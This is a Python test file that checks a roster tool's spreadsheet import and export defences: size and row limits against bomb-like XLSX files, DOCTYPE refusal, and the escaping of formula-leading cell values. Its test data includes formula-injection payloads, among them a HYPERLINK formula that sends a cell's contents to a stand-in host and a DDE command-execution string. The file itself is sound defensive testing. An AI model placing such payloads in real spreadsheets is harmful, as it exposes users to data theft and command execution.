"""Reading and writing tables: limits that hold while reading (issue 15, findings 1 and 4),
formula-leading values neutralised and an exact round trip (finding 3)."""

from __future__ import annotations

import csv
import hashlib
import io
import zipfile
from datetime import datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from matchdesk.context import Matchdesk
from matchdesk.errors import InvalidInput
from matchdesk.models import Base
from matchdesk.roster.records import CreatorRecord
from matchdesk.roster.service import ImportReport, export_roster, import_roster, save_records
from matchdesk.roster.tables import Cell, Limits, read_table, write_csv, write_xlsx

_CT = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
_ROOT_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
    'main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    "</Relationships>"
)


def xlsx(dimension: str, rows_xml: str) -> bytes:
    """A minimal workbook whose one sheet declares `dimension` and holds `rows_xml`."""
    sheet = (
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
        f'spreadsheetml/2006/main"><dimension ref="{dimension}"/><sheetData>{rows_xml}'
        "</sheetData></worksheet>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", _CT)
        zf.writestr("_rels/.rels", _ROOT_RELS)
        zf.writestr("xl/workbook.xml", _WORKBOOK)
        zf.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        zf.writestr("xl/worksheets/sheet1.xml", sheet)
    return out.getvalue()


def inline(ref: str, value: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'


HEADER_ROW = '<row r="1">' + inline("A1", "handle") + inline("B1", "timezone") + "</row>"


def test_a_huge_declared_dimension_with_a_far_cell_is_read_without_padding() -> None:
    data = xlsx(
        "A1:XFD1048576",
        HEADER_ROW + '<row r="1048576">' + inline("A1048576", "zed") + "</row>",
    )
    assert len(data) < 5000
    table = read_table(data, "bomb.xlsx")
    assert table.header == ["handle", "timezone"]
    assert table.rows == [(1048576, ["zed"])]


def test_a_value_in_column_xfd_is_refused_while_reading() -> None:
    data = xlsx("A1:XFD1", '<row r="1">' + inline("A1", "handle") + inline("XFD1", "x") + "</row>")
    with pytest.raises(InvalidInput) as caught:
        read_table(data, "wide.xlsx")
    assert caught.value.message == (
        "wide.xlsx, row 1, column XFD: a value beyond column CV; at most 100 columns are read"
    )


def test_rows_past_the_limit_are_refused() -> None:
    data = xlsx("A1:A1", HEADER_ROW + '<row r="11">' + inline("A11", "x") + "</row>")
    with pytest.raises(InvalidInput) as caught:
        read_table(data, "long.xlsx", Limits(rows=10))
    assert caught.value.message == "long.xlsx has a row 11: at most 10 rows are read"
    with pytest.raises(InvalidInput) as caught:
        read_table(b"a\n" * 11, "long.csv", Limits(rows=10))
    assert caught.value.message == "long.csv has a row 11: at most 10 rows are read"


def test_cells_past_the_limit_are_refused() -> None:
    with pytest.raises(InvalidInput) as caught:
        read_table(b"a,b\nc,d\ne,f\n", "many.csv", Limits(cells=5))
    assert caught.value.message == "many.csv has more than 5 cells; split the file"


def test_a_huge_inline_string_is_refused_as_it_streams() -> None:
    data = xlsx("A1:A2", HEADER_ROW + '<row r="2">' + inline("A2", "x" * 200_000) + "</row>")
    with pytest.raises(InvalidInput) as caught:
        read_table(data, "long.xlsx")
    assert caught.value.message == (
        "long.xlsx, row 2, column A: a cell of more than 100,000 characters"
    )


def test_a_part_that_unpacks_past_the_limit_is_refused_before_it_is_opened() -> None:
    data = xlsx("A1:A2", HEADER_ROW + '<row r="2">' + inline("A2", "x" * 3_000_000) + "</row>")
    assert len(data) < 10_000
    with pytest.raises(InvalidInput) as caught:
        read_table(data, "zip.xlsx", Limits(part_bytes=2 * 2**20))
    assert caught.value.message == (
        "zip.xlsx unpacks to more than 2 MB (its part xl/worksheets/sheet1.xml alone to 2 MB)"
    )


def test_a_stale_dimension_does_not_drop_rows() -> None:
    rows = "".join(
        f'<row r="{n}">' + inline(f"A{n}", f"c{n}") + inline(f"B{n}", "UTC") + "</row>"
        for n in range(2, 7)
    )
    table = read_table(xlsx("A1:F2", HEADER_ROW + rows), "stale.xlsx")
    assert table.rows == [(n, [f"c{n}", "UTC"]) for n in range(2, 7)]


def test_a_doctype_is_refused() -> None:
    data = xlsx("A1", "")
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            body = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                body = body.replace(b"<worksheet", b'<!DOCTYPE x [<!ENTITY a "b">]><worksheet')
            target.writestr(info, body)
    with pytest.raises(InvalidInput) as caught:
        read_table(out.getvalue(), "dtd.xlsx")
    assert caught.value.message == (
        "dtd.xlsx is not a readable XLSX workbook (xl/worksheets/sheet1.xml declares a DOCTYPE)"
    )


FORMULAS = ['=HYPERLINK("http://x.test/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+1", "@SUM(A1)"]


def test_csv_export_neutralises_formula_leading_values_and_reads_them_back() -> None:
    rows: list[list[Cell]] = [[value, -5] for value in FORMULAS]
    rows.append(["'quoted", 1])
    data = write_csv(["a", "b"], rows)
    cells = [row[0] for row in csv.reader(io.StringIO(data.decode()))][1:]
    assert cells == ["'" + value for value in FORMULAS] + ["''quoted"]
    assert read_table(data, "x.csv").rows == [
        (n, [value, "-5"]) for n, value in enumerate(FORMULAS, 2)
    ] + [(6, ["'quoted", "1"])]


def test_xlsx_export_writes_text_never_formulas_and_keeps_dates_and_numbers_typed() -> None:
    when = datetime(2026, 3, 9, 19, 30)
    data = write_xlsx(["text", "n", "when"], [[value, 7, when] for value in FORMULAS], "t")
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    assert [(c.value, c.data_type) for c in sheet["A"]][1:] == [(v, "s") for v in FORMULAS]
    assert (sheet["B2"].value, sheet["B2"].data_type) == (7, "n")
    assert sheet["C2"].value == when
    assert sheet["C2"].is_date
    assert read_table(data, "x.xlsx").rows == [
        (n, [value, "7", "2026-03-09T19:30:00"]) for n, value in enumerate(FORMULAS, 2)
    ]


def snapshot(md: Matchdesk) -> str:
    digest = hashlib.sha256()
    with md.engine.connect() as connection:
        for table in Base.metadata.sorted_tables:
            if table.name == "roster_uploads":
                continue
            for row in connection.execute(text(f"SELECT * FROM {table.name} ORDER BY 1")):
                digest.update(repr(tuple(row)).encode())
    return digest.hexdigest()


@pytest.mark.parametrize("name", ["roster.csv", "roster.xlsx"])
def test_an_export_with_formula_values_imports_back_unchanged(md: Matchdesk, name: str) -> None:
    records = [
        CreatorRecord(
            handle=f"c{n}",
            timezone="UTC",
            languages=("en",),
            followers=1,
            revenue_30d=2,
            display_name=value,
            category="=1+1",
            email="=x@example.com" if n == 0 else "",
        )
        for n, value in enumerate(FORMULAS)
    ]
    with md.transaction() as session:
        save_records(session, md.program, records)
    before = snapshot(md)
    with md.transaction() as session:
        exported = export_roster(session, name)
    with md.transaction() as session:
        report = import_roster(session, md.program, exported, name)
    assert report == ImportReport(0, 0, 4, dry_run=False)
    assert snapshot(md) == before
